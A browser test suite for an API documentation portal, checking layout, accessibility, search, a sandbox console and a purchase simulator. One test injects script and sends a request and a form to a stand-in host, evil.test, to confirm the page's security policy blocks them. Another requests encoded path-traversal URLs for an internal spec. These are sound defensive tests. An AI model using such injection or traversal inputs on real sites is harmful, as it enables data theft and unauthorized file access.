/** The portal in a real browser. */
import { gzipSync } from "node:zlib";
import { operationsOf } from "@vending/openapi/document";
import type { Browser, BrowserContextOptions } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { operationLink } from "../../packages/portal/src/page/links.ts";
import { guides, navigation, referencePage } from "../../packages/portal/src/page/navigation.ts";
import { portalFolder } from "../../packages/portal/src/paths.ts";
import { startPortal } from "../../packages/portal/src/server.ts";
import { readSource } from "../../packages/portal/src/source.ts";
import { ensureBuilt } from "../../scripts/build/up-to-date.ts";
import type { RunningServer } from "../../scripts/servers/server.ts";
import { findChromium, launchChromium } from "../lib/chromium.ts";
import { partner } from "../lib/documents.ts";
import {
  accessibilityFaults,
  brokenNames,
  cutCells,
  expectAccessible,
  openPage,
  overflow,
  settled,
} from "./lib/browser.ts";

const schemes = ["light", "dark"] as const;
const widths = [360, 1440];

interface View {
  name: string;
  width: number;
  scheme: (typeof schemes)[number];
}

const views = (names: readonly string[], of: readonly number[]): View[] =>
  names.flatMap((name) => of.flatMap((width) => schemes.map((scheme) => ({ name, width, scheme }))));
const looked: View[] = views(guides, widths);

describe.skipIf(!findChromium())("the portal", () => {
  let docs: RunningServer;
  let browser: Browser;

  beforeAll(async () => {
    await ensureBuilt("portal");
    docs = await startPortal({ port: 0, host: "127.0.0.1" });
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    await docs?.stop();
  });

  const open = (name: string, options: BrowserContextOptions = {}, hash = "") =>
    openPage(browser, `${docs.url}/${name}.html${hash}`, options);

  test.each(looked)("$name can be read at $width px, $scheme", async ({ name, width, scheme }) => {
    const view: BrowserContextOptions = { viewport: { width, height: 800 }, colorScheme: scheme };
    const { page } = await open(name, view);
    expect(await overflow(page)).toBeLessThanOrEqual(0);
    expect(await brokenNames(page)).toEqual([]);
    expect(await cutCells(page)).toEqual([]);
    await expectAccessible(page);
  });

  test("the checks of a page find the faults of a broken one", async () => {
    const { page } = await open("conventions", { viewport: { width: 360, height: 800 } });
    await page.evaluate(`document.querySelector("main").insertAdjacentHTML("beforeend",
      '<p><code id="broken">response_code</code></p><img src="data:,">' +
      '<p id="faint">faint</p><div id="wide">wide</div><table><tr><td id="cut">response_code_of_a_purchase</td></tr></table>')`);
    await page.evaluate(`{
      const style = (id, text) => { document.getElementById(id).style.cssText = text; };
      style("broken", "white-space: normal; word-break: break-all; display: inline; font-size: 60px");
      style("faint", "color: #777; background: #666");
      style("wide", "width: 2000px");
      style("cut", "max-width: 20px; overflow: hidden; display: block");
    }`);
    expect(await brokenNames(page)).toEqual(["response_code"]);
    expect(await cutCells(page)).toContain("response_code_of_a_purchase");
    expect(await overflow(page)).toBeGreaterThan(0);
    const faults = (await accessibilityFaults(page)).join("\n");
    expect(faults).toContain("color-contrast");
    expect(faults).toContain("image-alt");
  });

  test("the menu leads to every page, and the reference names every operation", async () => {
    const { page } = await open("index");
    const menu = await page
      .locator("nav.menu a")
      .evaluateAll((links) => links.map((link) => link.getAttribute("href")));
    expect(menu).toEqual(navigation.flatMap(({ pages }) => pages.map((name) => `${name}.html`)));
    for (const href of menu) expect((await fetch(`${docs.url}/${href}`)).status, String(href)).toBe(200);

    await page.locator("nav.menu a", { hasText: /^Reference$/ }).click();
    await page.waitForURL(/reference\.html/);
    for (const tag of ["Plans", "Verification", "Gift cards", "Health", "Transactions"]) {
      await page.getByRole("link", { name: tag, exact: true }).first().click();
    }
    const listed = () =>
      page.locator("#redoc a").evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
    for (const { operation } of operationsOf(partner)) {
      await expect.poll(listed).toContainEqual(expect.stringMatching(new RegExp(`/${operation.operationId}$`, "i")));
    }
    const source = await (await fetch(`${docs.url}/${referencePage}.html`)).text();
    expect(source).toContain('href="#/transactions"');
    expect(source).not.toMatch(/href="\/[a-z-]*"/);
    expect(source).not.toContain("{base_url}");
  });

  test.each(
    operationsOf(partner).map(({ operation }) => operation),
  )("a link leads to $operationId", async (operation) => {
    const link = operationLink(await readSource(), operation.operationId);
    const { page } = await openPage(browser, `${docs.url}/${link}`);
    const headings = page.locator("#redoc").locator("h1, h2, h3");
    await headings.filter({ hasText: operation.summary }).first().waitFor();
  });

  /** Places of the reference, with what they show beside the operations. */
  const places: readonly (readonly [hash: string, texts: readonly string[]])[] = [
    ["", []],
    ["#/transactions/createtransaction", ["After each response", "our advice", "pending"]],
    ["#/bodies-without-a-documented-route", ["EsimOrderResponse", "CatalogResponse", "BillPlanListResponse"]],
  ];
  const seen = [1440, 768, 360].flatMap((width) => schemes.map((scheme) => ({ width, scheme })));
  test.each(seen)("the reference can be read at $width px, $scheme", async ({ width, scheme }) => {
    for (const [hash, texts] of places) {
      const view: BrowserContextOptions = { viewport: { width, height: 800 }, colorScheme: scheme };
      const { page } = await open(referencePage, view, hash);
      await page
        .getByText(texts[0] ?? "")
        .filter({ visible: true })
        .first()
        .waitFor();
      await settled(page);
      if (hash.includes("createtransaction") && width === 1440) {
        const field = await page.locator("#redoc").getByText("merchant_code").first().boundingBox();
        expect(field?.y).toBeLessThan(800);
      }
      await page.locator("#redoc details").evaluateAll((all) => {
        for (const one of all) one.setAttribute("open", "");
      });
      for (const text of texts) await page.getByText(text).filter({ visible: true }).first().waitFor();
      const isViolet = `[...document.querySelectorAll("#redoc *")].some((one) => getComputedStyle(one).color === "rgb(97, 92, 234)")`;
      expect(await page.evaluate(isViolet)).toBe(false);
      await expectAccessible(page);
      expect(await overflow(page)).toBeLessThanOrEqual(0);
    }
  });

  test.each(["index", referencePage])("a script that gets into %s does not run, and nothing leaves", async (name) => {
    const { page, complaints } = await open(name);
    await page.evaluate(`
      const code = "window.isEvil = true";
      const script = document.createElement("script");
      script.textContent = code;
      document.body.append(script);
      document.body.insertAdjacentHTML("beforeend", "<svg onload='" + code + "'></svg><img src='data:,' onerror='" + code + "'>");
      fetch("https://evil.test/").catch(() => {});
      document.body.insertAdjacentHTML("beforeend", "<form action='https://evil.test/'></form>");
      document.forms[0].submit();
    `);
    // The two handlers, the script, the request and the form.
    await expect.poll(() => complaints.filter((one) => one.includes("violates the following")).length).toBe(5);
    expect(await page.evaluate("window.isEvil")).toBeUndefined();
    complaints.splice(0);
  });

  test.each([
    [referencePage, 720_000] as const,
    ...guides.map((name) => [name, 55_000] as const),
  ])("%s weighs at most %d bytes, compressed", async (name, most) => {
    const { requests } = await open(name);
    const bytes = requests
      .filter((url) => url.startsWith(docs.url))
      .map(async (url) => gzipSync(await (await fetch(url)).bytes(), { level: 6 }).length);
    const total = (await Promise.all(bytes)).reduce((sum, size) => sum + size, 0);
    expect(total).toBeGreaterThan(5_000);
    expect(total).toBeLessThanOrEqual(most);
  });

  test("the search finds KCT, 9mobile, 422 and an operation", async () => {
    const { page } = await open("index");
    /** Until the list is that of these words, it is the one before. */
    const search = async (
      words: string,
      isFound: (links: { href: string; text: string }[]) => Promise<boolean> | boolean,
    ) => {
      await page.getByLabel("Search").fill(words);
      const links = () =>
        page
          .locator("#found a")
          .evaluateAll((all) => all.map((a) => ({ href: a.getAttribute("href") ?? "", text: a.textContent ?? "" })));
      await expect.poll(async () => isFound(await links()), { message: words }).toBe(true);
    };
    for (const words of ["KCT", "9mobile", "422"])
      await search(words, async ([first]) =>
        (await (await fetch(`${docs.url}/${first?.href}`)).text()).includes(words),
      );
    const verify = operationLink(await readSource(), "verifyCustomer");
    await search("verify a customer", ([first]) => first?.href === verify);
    for (const [words, text, among] of [
      ["cron", "Cron and workers", 1],
      ["422", "422: duplicate or invalid", 1],
      ["duplicate", "422: duplicate or invalid", 1],
      ["pending", "How to poll a pending purchase", 1],
      ["timeout", "No response", 1],
      ["retry-after", "Scenario 941", 5],
      ["refund 401", "401: wrong credentials", 1],
      ["authentication", "Credentials", 1],
      ["api key", "Credentials", 1],
      ["idempotency", "Buying safely", 1],
      ["pagination", "List transactions", 1],
      ["cors", "Develop against the sandbox", 1],
      ["ruby", "In your language", 1],
    ] as const)
      await search(words, (links) => links.slice(0, among).some((link) => link.text.includes(text)));
    expect(await (await fetch(`${docs.url}/assets/search-index.js`)).text()).not.toContain("<br>");
    await page.getByLabel("Search").fill("qqqzzz");
    await page.getByText("Nothing found.").waitFor();
    await page.getByLabel("Search").fill("KCT");
    await page.locator("#found a").first().click();
    await page.waitForURL(/products\.html#electricity/);
  });

  test("the console sends an example to the sandbox in the page, and says what the response allows", async () => {
    const { page } = await open("try");
    const app = page.locator("#app-try");
    const send = async (scenario: string) => {
      await page.getByLabel("Example", { exact: true }).selectOption("airtime-pending");
      await page.getByLabel("Scenario").selectOption(scenario);
      await page.getByRole("button", { name: "New request id" }).click();
      await page.getByRole("button", { name: "Send" }).click();
    };
    await send("");
    await app.getByText("HTTP 200", { exact: true }).waitFor();
    await app.getByText("Do not send the purchase again. Hold the money.").waitFor();
    await page.getByRole("button", { name: "Let 2 seconds pass" }).click();
    await app.getByRole("cell", { name: "success" }).waitFor();

    await send("904");
    await app.getByText("HTTP 500", { exact: true }).waitFor();
    await app.getByText("If it shows nothing, send the purchase again under the same id. Hold the money.").waitFor();
    await expect.poll(() => app.getByRole("row").count()).toBe(3);

    await send("902");
    await app.getByText("No response: the connection was dropped").waitFor();

    await expect.poll(() => app.locator(".step").getAttribute("class")).toBe("step warn");
    await page.getByRole("button", { name: "Check its status" }).click();
    await app.locator(".code", { hasText: '"response_code": "02"' }).waitFor();

    // To its end, as the page says: the status shows nothing, and the same request is sent again.
    await send("905");
    await app.getByText("HTTP 503", { exact: true }).waitFor();
    await page.getByRole("button", { name: "Check its status" }).click();
    await app.getByText("HTTP 404", { exact: true }).waitFor();
    await expect.poll(() => app.locator(":focus").allInnerTexts()).toEqual(["Check its status"]);
    expect(await app.innerText()).not.toContain("`");
    const id = (await app.getByText("GET /ext").innerText()).split("/").at(-1) ?? "";
    await page.getByRole("button", { name: "Send" }).click();
    await app.locator(".code", { hasText: `"request_id": "${id}"` }).waitFor();
    await page.getByRole("button", { name: "Check its status" }).click();
    await app.getByText(`/status/${id}`).waitFor();
    await app.getByText("HTTP 200", { exact: true }).waitFor();

    // What is not JSON has no id whose status could be checked.
    for (const rubbish of ["", "{", "null"]) {
      await page.getByLabel("Body").fill(rubbish);
      await page.getByRole("button", { name: "Send" }).click();
      await app.getByText("HTTP 400", { exact: true }).waitFor();
      expect(await page.getByRole("button", { name: "Check its status" }).count()).toBe(0);
      await page.getByLabel("Operation").selectOption("checkHealth");
      await page.getByRole("button", { name: "Send" }).click();
      await app.getByText("HTTP 200", { exact: true }).waitFor();
      await page.getByLabel("Operation").selectOption("createAirtimeAsync");
    }

    await page.getByLabel("Language").selectOption("Go");
    await app.locator(".code", { hasText: 'http.NewRequest("POST"' }).waitFor();
    await page.reload();
    expect(await page.getByLabel("Language").inputValue()).toBe("Go");
    await page.setViewportSize({ width: 390, height: 844 });
    await page.getByLabel("Operation").selectOption("createAirtimeAsync");
    await page.getByRole("button", { name: "Send" }).click();
    await app.getByText("POST /ext/gateway/v1/transactions/airtime/async").waitFor();
    expect(await overflow(page)).toBeLessThanOrEqual(0);
    await expectAccessible(page);
  });

  test("the first page loses a response at a click, loads nothing for it before, and one purchase is made", async () => {
    const { page, requests } = await open("index", { viewport: { width: 1440, height: 900 } });
    const play = page.getByRole("link", { name: "Lose the response" });
    expect((await play.boundingBox())?.y).toBeLessThan(850);
    expect(requests.filter((url) => url.endsWith("simulator.js"))).toEqual([]);
    await play.click();
    await page.locator("svg.drawing text", { hasText: /^one purchase$/ }).waitFor();
    expect(await page.locator("svg.drawing .lost.cross").count()).toBe(1);
    await expectAccessible(page);
  });

  test("the language that is chosen in a guide is that of the reference, and the other way round", async () => {
    const { page } = await open("first-purchase");
    await page
      .locator("label", { hasText: /^Python$/ })
      .first()
      .click();
    await page.goto(`${docs.url}/${referencePage}.html#/transactions/createtransaction`);
    await page.getByText("from urllib.request import").filter({ visible: true }).first().waitFor();
    const list = page.locator('[data-testid="dropdown"] button').filter({ visible: true });
    await list
      .filter({ hasText: /^Python$/ })
      .first()
      .click();
    await page.getByRole("menuitem", { name: "Go", exact: true }).click();
    await page.goto(`${docs.url}/first-purchase.html`);
    expect(await page.locator(".tabs input:checked").first().getAttribute("data-language")).toBe("Go");
  });

  test("a link into the tab of another language opens it, and the language is that of every page", async () => {
    const { page } = await open("languages", {}, "#go");
    await page.getByText("main.go sells them").waitFor();
    expect(await page.getByText("shop.py sells them").isVisible()).toBe(false);
    await page.locator("label", { hasText: /^Python$/ }).click();
    await page.getByText("shop.py sells them").waitFor();
    await page.goto(`${docs.url}/first-purchase.html`);
    expect(await page.locator(".tabs input:checked").first().getAttribute("data-language")).toBe("Python");
  });

  /** The buttons that the reader presses. Then every request gets through, until the client is done. */
  const plays: [name: string, steps: string[]][] = [
    ["the response is lost, and the status lags", ["Lose the response", "Let the status lag"]],
    ["a crash, and another one", ["Crash", "Start again", "Crash", "Start again"]],
    ["everything arrives", ["Let it through"]],
    ["the response is lost", ["Lose the response"]],
    ["500, but it was made", ["Return 500"]],
  ];
  test.each(plays)("in the simulator, one purchase is made: %s", async (_, steps) => {
    const { page } = await open("simulator");
    const press = (name: string) => page.getByRole("button", { name, exact: true }).click();
    await press("Buy");
    for (const step of steps) await press(step);
    const end = page.locator("svg.drawing text", { hasText: /^\d* ?(one )?purchases?$/ });
    while ((await end.count()) === 0) {
      // The client may come to its end, or wait, before the click arrives.
      await page
        .getByRole("button", { name: "Let it through" })
        .click({ timeout: 1_000 })
        .catch(() => {});
    }
    await expect.poll(() => end.textContent()).toBe("one purchase");
    await expect.poll(() => page.locator("svg.drawing").textContent()).toContain("succeeded: keep the money");
    await page.getByText("The same in words").click();
    await page.locator("figcaption li", { hasText: "succeeded: keep the money" }).waitFor();
  });

  test("the scheme can be chosen, and is kept from page to page", async () => {
    const { page } = await open("index", { colorScheme: "light" });
    const ground = () => page.evaluate("getComputedStyle(document.body).backgroundColor");
    const light = await ground();
    await page.getByRole("button", { name: "Use the dark colour scheme" }).click();
    const dark = await ground();
    expect(dark).not.toBe(light);
    await page.goto(`${docs.url}/outcomes.html`);
    expect(await ground()).toBe(dark);
  });

  test("code is copied, and its page has a twin in Markdown", async () => {
    const { page } = await open("first-purchase", { permissions: ["clipboard-read", "clipboard-write"] });
    const copy = page.locator(".code button").first();
    const code = await page.locator(".code code").first().textContent();
    await copy.click();
    // A second click must not make this name permanent.
    await page.getByRole("button", { name: "Copied" }).click();
    await expect.poll(() => copy.textContent()).toBe("Copy");
    expect(await page.evaluate("navigator.clipboard.readText()")).toBe(code);
    const twin = await (await fetch(`${docs.url}/first-purchase.md`)).text();
    expect(twin).toContain(`\`\`\`sh\n${code}\n\`\`\``);
  });

  test.each([
    true,
    false,
  ])("on a phone, the bar stays, and opens the menu and the contents of the page; with scripts: %s", async (javaScriptEnabled) => {
    const { page } = await open("buying-safely", {
      viewport: { width: 390, height: 844 },
      javaScriptEnabled,
    });
    const [menu, contents] = [page.locator("nav.menu"), page.locator("nav.contents")];
    expect([await menu.isVisible(), await contents.isVisible()]).toEqual([false, false]);

    await page.getByRole("link", { name: "simulator" }).first().focus();
    await page.mouse.wheel(0, 5_000);
    await expect.poll(() => page.locator(".top").boundingBox()).toMatchObject({ y: 0 });
    await page.getByRole("button", { name: "Contents" }).click();
    const last = contents.locator("a").last();
    await last.click();
    const heading = page.getByRole("heading", { name: await last.textContent().then(String) });
    const { height = 0 } = (await page.locator(".top").boundingBox()) ?? {};
    await expect.poll(async () => (await heading.boundingBox())?.y).toBeGreaterThanOrEqual(height);
    // Without scripts, the next tap closes it.
    await contents.waitFor({ state: javaScriptEnabled ? "hidden" : "visible" });

    await page.getByRole("button", { name: "Menu" }).click();
    await menu.waitFor();
    await contents.waitFor({ state: "hidden" });
    if (javaScriptEnabled) await expectAccessible(page);
    await page.keyboard.press("Escape");
    await menu.waitFor({ state: "hidden" });
    await page.getByRole("button", { name: "Menu" }).click();
    await menu.getByRole("link", { name: "Errors" }).click();
    await page.waitForURL(/errors\.html/);
  });

  test("on a phone, the reference opens its contents, which lead to an operation", async () => {
    const { page, complaints } = await open(referencePage, { viewport: { width: 360, height: 740 } });
    const contents = page.getByRole("button", { name: "Contents", exact: true });
    await contents.click();
    await expectAccessible(page);
    await page.keyboard.press("Escape");
    await expect.poll(() => contents.getAttribute("aria-expanded")).toBe("false");
    await contents.click();
    await page.getByRole("link", { name: "Transactions", exact: true }).click();
    await page.getByRole("link", { name: "List transactions" }).click();
    await expect.poll(() => contents.getAttribute("aria-expanded")).toBe("false");
    const title = page.getByRole("heading", { name: "List transactions" });
    await expect.poll(async () => (await title.boundingBox())?.y).toBeLessThan(300);
    // One line for each word.
    expect((await title.boundingBox())?.height).toBeLessThan(80);
    expect(complaints).toEqual([]);
    await page.close();
  });

  test("without scripts everything can be read, and each language chosen", async () => {
    const { page } = await open("first-purchase", { javaScriptEnabled: false });
    await page.getByText("First purchase in five minutes").first().waitFor();
    await page
      .locator("label", { hasText: /^Python$/ })
      .first()
      .click();
    await page.getByText("from urllib.request import").first().waitFor();
    expect(await page.getByRole("button").count()).toBe(0);
    const { page: reference } = await open(referencePage, { javaScriptEnabled: false });
    await reference.getByRole("link", { name: "All operations as text" }).first().click();
    for (const { operation } of operationsOf(partner)) {
      await reference.getByRole("heading", { name: operation.summary, exact: true }).waitFor();
    }
  });

  test("it works from a disk, too", async () => {
    const { page } = await openPage(browser, `file://${portalFolder}/index.html`);
    await page.getByLabel("Search").fill("KCT");
    await page.locator("#found a").first().click();
    await page.waitForURL(/products\.html#electricity/);
    expect(await page.evaluate("getComputedStyle(document.querySelector('.top')).display")).toBe("flex");
  });

  test("offers the partner documents, and never the internal one", async () => {
    for (const file of [
      "openapi.yaml",
      "openapi.json",
      "openapi-3.0.yaml",
      "openapi-3.0.json",
      "purchase-protocol.json",
      "purchase-protocol.schema.json",
      "purchase-vectors.json",
      "schemas/CablePlan.json",
    ]) {
      expect((await fetch(`${docs.url}/${file}`)).status, file).toBe(200);
    }
    for (const file of [
      "openapi-internal.yaml",
      "..%2fopenapi-internal.yaml",
      "%2e%2e/openapi-internal.json",
      "schemas",
    ]) {
      expect((await fetch(`${docs.url}/${file}`)).status, file).toBe(404);
    }
  });
});
